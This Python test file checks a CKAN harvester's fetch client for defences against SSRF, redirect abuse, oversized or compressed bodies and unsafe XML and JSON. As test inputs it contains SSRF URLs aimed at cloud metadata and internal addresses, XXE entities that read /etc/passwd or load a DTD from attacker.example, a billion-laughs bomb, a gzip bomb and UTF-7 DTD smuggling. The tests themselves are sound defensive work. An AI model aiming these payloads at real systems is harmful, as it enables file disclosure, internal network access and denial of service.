"""ingest/harvest/fetch.py against Replay servers on 127.0.0.1: private addresses refused (on every redirect hop,
the connection pinned to the checked address), redirect loops and chains, retries with backoff and Retry-After,
timeouts, the size cap (Content-Length and streamed), the request rate, defused XML and bounded JSON.

No CKAN database: the options come from tests/test.ini (which allows 127.0.0.1) or are passed to Client; waits are
recorded by a fake clock instead of slept."""
import base64
import contextlib
import datetime
import email.utils
import gzip
import shutil
import socket
import ssl
import subprocess
import threading
import time
import urllib.parse

import pytest

from ckanext.citizendata.ingest.harvest.fetch import (
    NOT_PUBLIC, AddressRefused, Client, FetchError, HttpStatus, Malformed, RedirectLoop, TimedOut, TooLarge,
    TooManyRedirects, check_xml_safe, networks, parse_json, parse_xml)
from ckanext.citizendata.ingest.harvest.replay import Replay, Reply

RDF_NS = "{http://www.w3.org/1999/02/22-rdf-syntax-ns#}"
DTD_REFUSED = "XML with a DTD entity declaration is not accepted"


class FakeClock:
    """A monotonic clock that moves only when slept on; the waits are recorded."""

    def __init__(self):
        self.now, self.waits = 1000.0, []

    def __call__(self):
        return self.now

    def sleep(self, seconds):
        self.waits.append(seconds)
        self.now += seconds


class FakeResolver:
    """Host names to addresses, recording what was asked; an unknown name does not resolve."""

    def __init__(self, table):
        self.table, self.asked = table, []

    def __call__(self, host, port):
        self.asked.append(host)
        if host not in self.table:
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return list(self.table[host])


@pytest.fixture
def server():
    with Replay() as replay:
        yield replay


@pytest.fixture
def clock():
    return FakeClock()


def make_client(clock, **options):
    """A client with explicit options (127.0.0.1 allowed, no rate limit, 2 retries, backoff 1 s, timeout 5 s)."""
    settings = {"allow": ["127.0.0.1"], "rate": 0, "retries": 2, "backoff": 1, "timeout": 5,
                "sleep": clock.sleep, "clock": clock}
    return Client(**{**settings, **options})


def port_of(replay):
    return urllib.parse.urlsplit(replay.base).port


def redirect(location, status=302):
    return Reply(status=status, headers={"Location": location})


# ------------------------------------------------------------------ configuration


def test_options_default_to_the_harvest_configuration(server, clock):
    server.add("/a", body=b"fine")
    client = Client(sleep=clock.sleep, clock=clock)
    assert client.allow == networks(["127.0.0.1"])           # tests/test.ini
    assert (client.retries, client.rate, client.max_redirects) == (3, 4, 5)
    assert client.get(server.url("/a")).body == b"fine"


def test_every_failure_is_a_fetch_error():
    for kind in (AddressRefused, TooLarge, HttpStatus, RedirectLoop, TooManyRedirects, TimedOut, Malformed):
        assert issubclass(kind, FetchError)
    assert HttpStatus("http://x/", 404).reason == "the source answered with HTTP status 404"


# ------------------------------------------------------------------ addresses


def test_loopback_is_refused_unless_allowed(server, clock):
    server.add("/a", body=b"secret")
    with pytest.raises(AddressRefused) as err:
        make_client(clock, allow=[]).get(server.url("/a"))
    assert err.value.reason == f"127.0.0.1 is not a public address: {NOT_PUBLIC}"
    assert server.log == []                                   # refused before connecting


@pytest.mark.parametrize("url", [
    "http://10.1.2.3/x", "http://169.254.169.254/latest/meta-data/", "http://[::1]:8080/", "http://0.0.0.0/",
    "http://[::ffff:127.0.0.1]/", "https://192.168.0.10/catalog.ttl", "http://2130706433/"])
def test_urls_naming_addresses_that_are_not_public_are_refused(clock, url):
    with pytest.raises(AddressRefused, match=NOT_PUBLIC):
        make_client(clock, allow=[], retries=0).get(url)


def test_a_host_with_any_address_that_is_not_public_is_refused(clock):
    resolver = FakeResolver({"mixed.test": ["93.184.216.34", "10.0.0.5"]})
    with pytest.raises(AddressRefused, match="mixed.test is not a public address"):
        make_client(clock, resolver=resolver).get("http://mixed.test/")
    assert clock.waits == []                                  # not retried


@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.org/x", "gopher://127.0.0.1:70/_x",
                                 "javascript:alert(1)", "dict://127.0.0.1:11211/stat"])
def test_schemes_other_than_http_are_refused(clock, url):
    resolver = FakeResolver({})
    client = make_client(clock, resolver=resolver)
    with pytest.raises(AddressRefused, match="only http and https addresses can be harvested"):
        client.get(url)
    assert (resolver.asked, client.requests_sent) == ([], 0)


def test_the_connection_goes_to_the_checked_address_with_the_host_name_kept(server, clock):
    hosts = []
    server.add("/who", handler=lambda request: hosts.append(request.headers.get("Host")) or Reply(body=b"me"))
    resolver = FakeResolver({"portal.test": ["127.0.0.1"]})   # .test never resolves for real: only the pin connects
    client = make_client(clock, resolver=resolver)
    url = f"http://portal.test:{port_of(server)}/who"
    assert client.get(url).body == b"me"
    assert client.get(url).body == b"me"
    assert hosts == [f"portal.test:{port_of(server)}"] * 2
    assert resolver.asked == ["portal.test", "portal.test"]   # one lookup per request, the one checked


def test_no_proxy_from_the_environment_is_used(server, clock, monkeypatch):
    monkeypatch.setenv("HTTP_PROXY", "http://10.9.9.9:3128")
    monkeypatch.setenv("http_proxy", "http://10.9.9.9:3128")
    server.add("/a", body=b"direct")
    assert make_client(clock, retries=0, timeout=2).get(server.url("/a")).body == b"direct"


# ------------------------------------------------------------------ https: pinned, with the host name's certificate


@pytest.fixture(scope="module")
def certificate(tmp_path_factory):
    if not shutil.which("openssl"):
        pytest.skip("openssl is not installed")
    folder = tmp_path_factory.mktemp("tls")
    cert, key = folder / "cert.pem", folder / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1",
                    "-nodes", "-keyout", str(key), "-out", str(cert), "-days", "2", "-subj", "/CN=portal.test",
                    "-addext", "subjectAltName=DNS:portal.test"], check=True, capture_output=True, timeout=60)
    return cert, key


@contextlib.contextmanager
def tls_replay(certificate, server_names):
    replay = Replay()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*certificate)
    context.sni_callback = lambda sock, name, ctx: server_names.append(name)
    replay._server.socket = context.wrap_socket(replay._server.socket, server_side=True)  # Replay speaks plain http
    with replay:
        yield replay


def test_https_is_pinned_with_the_host_names_sni_and_certificate(certificate, clock):
    names = []
    with tls_replay(certificate, names) as replay:
        replay.add("/a", body=b"secure")
        resolver = FakeResolver({"portal.test": ["127.0.0.1"], "other.test": ["127.0.0.1"]})
        client = make_client(clock, resolver=resolver, retries=1, timeout=5)
        client.session.verify = str(certificate[0])
        assert client.get(f"https://portal.test:{port_of(replay)}/a").body == b"secure"
        assert names == ["portal.test"]
        with pytest.raises(FetchError, match="a secure connection to other.test could not be made") as err:
            client.get(f"https://other.test:{port_of(replay)}/a")     # the certificate names portal.test only
        assert err.value.attempts == 1                                 # a certificate does not improve by waiting
        assert replay.log == ["/a"]


# ------------------------------------------------------------------ redirects


def test_redirects_are_followed(server, clock):
    server.add("/a", handler=lambda request: redirect("/b", 301))
    server.add("/b", body=b"here")
    response = make_client(clock).get(server.url("/a"))
    assert (response.url, response.body, response.attempts) == (server.url("/b"), b"here", 2)


def test_a_redirect_to_an_address_that_is_not_public_is_refused(server, clock):
    server.add("/a", handler=lambda request: redirect("http://169.254.169.254/latest/meta-data/"))
    with pytest.raises(AddressRefused, match=NOT_PUBLIC) as err:
        make_client(clock).get(server.url("/a"))
    assert err.value.url == "http://169.254.169.254/latest/meta-data/"


def test_refused_paths_are_never_requested_directly_or_through_a_redirect(server, clock):
    from ckanext.citizendata.ingest.harvest.fetch import PathRefused
    server.add("/api/v2/assets/", body=b"{}")
    server.add("/hop", handler=lambda request: redirect("/api/v2/assets/a1/data/"))
    server.forbid(r"/data/")
    client = make_client(clock, refuse_paths=[r"/assets/[^/]+/data(/|$)"])
    assert client.get(server.url("/api/v2/assets/")).body == b"{}"
    for path in ("/api/v2/assets/a1/data/", "/api/v2/assets/a1/data", "/hop"):
        with pytest.raises(PathRefused, match="never reads this path"):
            client.get(server.url(path))
    assert server.violations == []
    assert issubclass(PathRefused, AddressRefused)


def test_every_redirect_hop_is_resolved_and_checked(server, clock):
    resolver = FakeResolver({"portal.test": ["127.0.0.1"], "inside.test": ["10.0.0.7"]})
    server.add("/a", handler=lambda request: redirect("http://inside.test/admin"))
    with pytest.raises(AddressRefused, match="inside.test is not a public address"):
        make_client(clock, resolver=resolver).get(f"http://portal.test:{port_of(server)}/a")
    assert resolver.asked == ["portal.test", "inside.test"]


def test_a_redirect_to_another_scheme_is_refused(server, clock):
    server.add("/a", handler=lambda request: redirect("file:///etc/passwd"))
    with pytest.raises(AddressRefused, match="only http and https"):
        make_client(clock).get(server.url("/a"))


def test_a_redirect_loop_is_refused_at_once(server, clock):
    server.add("/a", handler=lambda request: redirect("/b"))
    server.add("/b", handler=lambda request: redirect("/a"))
    with pytest.raises(RedirectLoop, match="the source redirects in a loop") as err:
        make_client(clock, max_redirects=10).get(server.url("/a"))
    assert server.log == ["/a", "/b"]
    assert err.value.attempts == 2


def test_too_many_redirects_are_refused(server, clock):
    for i in range(10):
        server.add(f"/r{i}", handler=lambda request, i=i: redirect(f"/r{i + 1}"))
    server.add("/r10", body=b"end")
    with pytest.raises(TooManyRedirects, match="more than 3 times"):
        make_client(clock, max_redirects=3).get(server.url("/r0"))
    assert server.log == ["/r0", "/r1", "/r2", "/r3"]
    assert make_client(clock, max_redirects=3).get(server.url("/r7")).body == b"end"   # exactly 3 hops


def test_headers_do_not_follow_a_redirect_to_another_origin(server, clock):
    seen = []
    with Replay() as other:
        other.add("/x", handler=lambda request: seen.append(request.headers) or Reply(body=b"ok"))
        server.add("/a", handler=lambda request: redirect(other.url("/x")))
        make_client(clock).get(server.url("/a"), headers={"Authorization": "Bearer secret", "Accept": "text/turtle"})
    assert seen[0].get("Accept") == "text/turtle"
    assert "Authorization" not in seen[0]


def test_a_clients_own_headers_go_with_every_request_but_not_to_another_origin(server, clock):
    seen, elsewhere = [], []
    with Replay() as other:
        other.add("/x", handler=lambda request: elsewhere.append(request.headers) or Reply(body=b"ok"))
        server.add("/api", handler=lambda request: seen.append(request.headers) or Reply(body=b"{}"))
        server.add("/away", handler=lambda request: redirect(other.url("/x")))
        client = make_client(clock, headers={"Authorization": "token-of-the-source"})
        client.get_json(server.url("/api"))
        client.get(server.url("/away"))
    assert seen[0]["Authorization"] == "token-of-the-source"
    assert "Authorization" not in elsewhere[0]


# ------------------------------------------------------------------ retries


def test_a_503_is_tried_again_after_the_backoff(server, clock):
    server.add("/flaky", handler=lambda request: Reply(status=503) if request.calls == 1 else Reply(body=b"ok"))
    response = make_client(clock).get(server.url("/flaky"))
    assert (response.body, response.attempts, clock.waits) == (b"ok", 2, [1])


def test_the_backoff_doubles_and_retries_end(server, clock):
    server.add("/down", status=500)
    with pytest.raises(HttpStatus) as err:
        make_client(clock, retries=3, backoff=2).get(server.url("/down"))
    assert (err.value.status, err.value.attempts, clock.waits) == (500, 4, [2, 4, 8])
    assert len(server.log) == 4


def test_retry_after_in_seconds_is_honoured(server, clock):
    server.add("/busy", handler=lambda request: Reply(status=429, headers={"Retry-After": "7"})
               if request.calls == 1 else Reply(body=b"ok"))
    assert make_client(clock).get(server.url("/busy")).body == b"ok"
    assert clock.waits == [7]


def test_retry_after_as_a_date_is_honoured(server, clock):
    when = email.utils.format_datetime(
        datetime.datetime.now(datetime.timezone.utc) + datetime.timedelta(seconds=120), usegmt=True)
    server.add("/busy", handler=lambda request: Reply(status=503, headers={"Retry-After": when})
               if request.calls == 1 else Reply(body=b"ok"))
    assert make_client(clock).get(server.url("/busy")).body == b"ok"
    assert len(clock.waits) == 1 and 100 < clock.waits[0] <= 120


def test_a_retry_after_longer_than_allowed_is_refused(server, clock):
    server.add("/busy", status=429, headers={"Retry-After": "600"})
    with pytest.raises(HttpStatus, match="asks to wait 600 seconds .* longer than the 300 seconds allowed") as err:
        make_client(clock, retry_after_max=300).get(server.url("/busy"))
    assert (err.value.status, err.value.attempts, clock.waits) == (429, 1, [])


def test_a_404_is_not_tried_again(server, clock):
    with pytest.raises(HttpStatus, match="HTTP status 404") as err:
        make_client(clock).get(server.url("/missing"))
    assert (err.value.status, err.value.attempts, clock.waits, server.log) == (404, 1, [], ["/missing"])


def test_a_refused_connection_is_tried_again(clock):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]                         # closed again: nothing listens there
    client = make_client(clock, retries=1)
    with pytest.raises(FetchError) as err:
        client.get(f"http://127.0.0.1:{port}/")
    assert err.value.reason == "could not connect to 127.0.0.1"
    assert (err.value.attempts, clock.waits, client.requests_sent) == (2, [1], 2)


def test_a_host_that_does_not_resolve_is_tried_again(clock):
    with pytest.raises(FetchError) as err:
        make_client(clock, retries=1, resolver=FakeResolver({})).get("http://nowhere.test/")
    assert err.value.reason == "the host nowhere.test could not be found"
    assert (err.value.attempts, clock.waits) == (2, [1])


# ------------------------------------------------------------------ timeouts


def test_a_body_that_stalls_times_out_and_is_tried_again(server, clock):
    server.add("/slow", handler=lambda request: Reply(body=[b"a" * 10, b"b" * 10], chunk_delay=3))
    started = time.monotonic()
    with pytest.raises(TimedOut, match="stopped sending for more than 0.3 seconds") as err:
        make_client(clock, timeout=0.3, retries=1).get(server.url("/slow"))
    assert (err.value.attempts, clock.waits) == (2, [1])
    assert time.monotonic() - started < 5                     # did not wait for the server's 3 s chunks


def test_an_answer_that_does_not_come_times_out(server, clock):
    server.add("/late", handler=lambda request: time.sleep(3) or Reply(body=b"late"))
    with pytest.raises(TimedOut, match="did not answer within 0.3 seconds") as err:
        make_client(clock, timeout=0.3, retries=0).get(server.url("/late"))
    assert err.value.attempts == 1


# ------------------------------------------------------------------ size


def test_a_content_length_over_the_cap_is_refused_before_reading(server, clock):
    server.add("/big", body=b"x" * 5000)
    with pytest.raises(TooLarge, match="the response is 5000 bytes, more than the 1000 allowed") as err:
        make_client(clock, max_bytes=1000).get(server.url("/big"))
    assert (err.value.attempts, clock.waits) == (1, [])       # not tried again


def test_a_chunked_body_over_the_cap_stops_the_transfer(server, clock):
    produced, stopped = [], threading.Event()

    def endless():
        try:
            for _ in range(10_000):                           # 640 MB if read to the end
                produced.append(1)
                yield b"x" * 65536
        finally:
            stopped.set()
    server.add("/endless", handler=lambda request: Reply(body=endless()))
    with pytest.raises(TooLarge, match="larger than the 100000 bytes allowed"):
        make_client(clock, max_bytes=100_000).get(server.url("/endless"))
    assert stopped.wait(30)                                   # the server saw the connection closed
    assert len(produced) < 1000


def test_a_compressed_body_is_capped_as_decompressed(server, clock):
    bomb = gzip.compress(b"\0" * 20_000_000)                 # 20 MB in about 20 kB
    server.add("/bomb", body=bomb, headers={"Content-Encoding": "gzip"})
    with pytest.raises(TooLarge, match="larger than the 1000000 bytes allowed"):
        make_client(clock, max_bytes=1_000_000).get(server.url("/bomb"))


def test_a_body_under_the_cap_is_read(server, clock):
    server.add("/chunks", handler=lambda request: Reply(body=[b"ab"] * 500))
    assert make_client(clock, max_bytes=1000).get(server.url("/chunks")).body == b"ab" * 500


def test_stream_hands_over_the_chunks(server, clock):
    server.add("/feed", handler=lambda request: Reply(body=[b"one\n", b"two\n"], content_type="text/plain"))
    with make_client(clock).stream(server.url("/feed")) as stream:
        assert (stream.status, stream.content_type) == (200, "text/plain")
        assert b"".join(stream) == b"one\ntwo\n"


def test_stream_keeps_the_cap(server, clock):
    server.add("/feed", handler=lambda request: Reply(body=[b"x" * 400] * 10))
    server.add("/sized", body=b"x" * 4000)
    client = make_client(clock, max_bytes=1000)
    read = []
    with pytest.raises(TooLarge, match="larger than the 1000 bytes allowed"):
        with client.stream(server.url("/feed")) as stream:
            for chunk in stream:
                read.append(chunk)
    assert sum(map(len, read)) <= 1000
    with pytest.raises(TooLarge, match="4000 bytes"):
        with client.stream(server.url("/sized")):
            pytest.fail("a stream over the cap is refused before its body")


# ------------------------------------------------------------------ rate


def test_requests_are_paced_to_the_rate(server, clock):
    server.add("/a", body=b"ok")
    client = make_client(clock, rate=2)
    for _ in range(3):
        client.get(server.url("/a"))
    assert clock.waits == [0.5, 0.5]


def test_no_rate_no_waits(server, clock):
    server.add("/a", body=b"ok")
    client = make_client(clock, rate=0)
    for _ in range(3):
        client.get(server.url("/a"))
    assert clock.waits == []


def test_retries_and_redirects_count_against_the_rate(server, clock):
    server.add("/a", handler=lambda request: redirect("/b"))
    server.add("/b", handler=lambda request: Reply(status=503) if request.calls == 1 else Reply(body=b"ok"))
    make_client(clock, rate=1, backoff=0).get(server.url("/a"))
    assert clock.waits == [1, 0, 1]                           # before /b; the backoff; before /b again


# ------------------------------------------------------------------ XML

RDF = b"""<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dcat="http://www.w3.org/ns/dcat#"
         xmlns:dct="http://purl.org/dc/terms/">
  <dcat:Dataset rdf:about="https://portal.example/dataset/water">
    <dct:title>Water points</dct:title>
  </dcat:Dataset>
</rdf:RDF>
"""
ENTITY = b'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY name "value">]>\n<r>&name;</r>'
EXTERNAL = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
PARAMETER = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>'
LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
          + b"".join(b' <!ENTITY lol%d "%s">\n' % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10)
                     for i in range(1, 10))
          + b"]>\n<lolz>&lol9;</lolz>")
BEHIND_A_COMMENT = b'<?xml version="1.0"?><!-- <r> --><!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>'
ATTLIST_ONLY = b'<!DOCTYPE r [<!ATTLIST r id ID #IMPLIED>]><r/>'
XHTML = (b'<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
         b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
         b'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body/></html>')


def _utf7(document):
    """``document`` in UTF-7 with its markup characters in base64 form (``<`` as ``+ADw-``)."""
    text = document.replace(b'<?xml version="1.0"?>', b"").decode("ascii")
    body = "".join("+" + base64.b64encode(c.encode("utf-16-be")).decode().rstrip("=") + "-" if c in "<!>[]" else c
                   for c in text).encode("ascii")
    assert b"<!DOCTYPE" not in body and body.decode("utf-7") == text   # hidden from a byte-wise reading
    return b'<?xml version="1.0" encoding="UTF-7"?>' + body


@pytest.mark.parametrize("body", [
    ENTITY, EXTERNAL, PARAMETER, LAUGHS, BEHIND_A_COMMENT, ATTLIST_ONLY,
    ENTITY.decode().encode("utf-16"),                          # with a byte-order mark
    ENTITY.decode().replace('"1.0"?>', '"1.0" encoding="UTF-16"?>').encode("utf-16-le"),   # without
    ENTITY.decode().encode("utf-32"),
    b"\xef\xbb\xbf" + ENTITY,
    _utf7(ENTITY),
    b'<?xml version="1.0"?><!--' + b" padding " * 20_000 + b"-->" + ENTITY[21:],  # a long prolog
], ids=["entity", "external", "parameter", "billion-laughs", "behind-a-comment", "attlist", "utf-16-bom",
        "utf-16-le", "utf-32", "utf-8-bom", "utf-7", "long-prolog"])
def test_xml_with_a_dtd_internal_subset_is_refused(body):
    with pytest.raises(Malformed) as err:
        check_xml_safe(body, "http://portal.test/catalog.rdf")
    assert err.value.reason == DTD_REFUSED
    with pytest.raises(Malformed, match=DTD_REFUSED):
        parse_xml(body, "http://portal.test/catalog.rdf")


def test_the_check_reads_text_too():
    with pytest.raises(Malformed, match=DTD_REFUSED):
        check_xml_safe(ENTITY.decode(), "http://portal.test/x")
    check_xml_safe(RDF.decode(), "http://portal.test/x")


def test_rdf_xml_is_accepted():
    check_xml_safe(RDF, "http://portal.test/catalog.rdf")
    root = parse_xml(RDF, "http://portal.test/catalog.rdf")
    assert root.tag == RDF_NS + "RDF"
    assert root[0].get(RDF_NS + "about") == "https://portal.example/dataset/water"


@pytest.mark.parametrize("body", [
    XHTML, b'<!DOCTYPE r SYSTEM "odd[1].dtd"><r/>', b'<?xml version="1.0"?><!-- <!ENTITY x "y"> --><r/>',
    b'<?xml version="1.0"?><!--' + b" padding " * 20_000 + b"--><r>long prolog</r>",
    RDF.decode().replace('"utf-8"', '"utf-16"').encode("utf-16")])
def test_xml_without_an_internal_subset_is_accepted(body):
    assert parse_xml(body, "http://portal.test/page") is not None


def test_an_unknown_encoding_is_refused():
    with pytest.raises(Malformed, match="the XML's encoding x-martian is not supported"):
        parse_xml(b'<?xml version="1.0" encoding="x-martian"?><r/>', "http://portal.test/x")
    with pytest.raises(Malformed, match="encoding base64 is not supported"):
        check_xml_safe(b'<?xml version="1.0" encoding="base64"?><r/>', "http://portal.test/x")
    with pytest.raises(Malformed, match="the XML's encoding is not supported"):
        check_xml_safe('<?xml version="1.0" encoding="cp037"?><r/>'.encode("cp037"), "http://portal.test/x")


@pytest.mark.parametrize("body, reason", [
    (b"<r>\n<open></r>", "the XML is not well-formed (line 2)"),
    (b"", "the XML is not well-formed (line 1)"),
    (b"not xml at all", "the XML is not well-formed (line 1)"),
])
def test_malformed_xml_has_a_short_reason(body, reason):
    with pytest.raises(Malformed) as err:
        parse_xml(body, "http://portal.test/x")
    assert err.value.reason == reason


# ------------------------------------------------------------------ JSON


def test_get_json(server, clock):
    server.add("/api", body=b'{"success": true, "result": [1, 2]}', content_type="application/json")
    assert make_client(clock).get_json(server.url("/api")) == {"success": True, "result": [1, 2]}
    assert server.log == ["/api"]


def test_get_json_refuses_what_is_not_json(server, clock):
    server.add("/page", body=b"<html>maintenance</html>", content_type="text/html")
    with pytest.raises(Malformed, match="the response is not JSON"):
        make_client(clock).get_json(server.url("/page"))


def test_get_json_refuses_deep_nesting(server, clock):
    server.add("/deep", body=b"[" * 65 + b"]" * 65, content_type="application/json")
    with pytest.raises(Malformed, match="nests more than 64 levels"):
        make_client(clock).get_json(server.url("/deep"))


@pytest.mark.parametrize("body", [b"[" * 65 + b"]" * 65, b'{"a":' * 65 + b"1" + b"}" * 65,
                                  b"[" * 100_000 + b"]" * 100_000, b'[{"a": ' * 40 + b"[]" + b"}]" * 40])
def test_json_deeper_than_64_levels_is_refused(body):
    with pytest.raises(Malformed, match="nests more than 64 levels"):
        parse_json(body, "http://portal.test/api")


def test_json_64_levels_deep_is_accepted():
    value = parse_json(b"[" * 64 + b"]" * 64, "http://portal.test/api")
    for _ in range(63):
        value = value[0]
    assert value == []
    value = parse_json(b'{"a":' * 63 + b"[]" + b"}" * 63, "http://portal.test/api")
    for _ in range(63):
        value = value["a"]
    assert value == []


@pytest.mark.parametrize("body", [b"NaN", b'{"x": Infinity}', b"\xff\xfe{", b"{'a': 1}"])
def test_json_that_is_not_json_is_refused(body):
    with pytest.raises(Malformed, match="the response is not JSON"):
        parse_json(body, "http://portal.test/api")
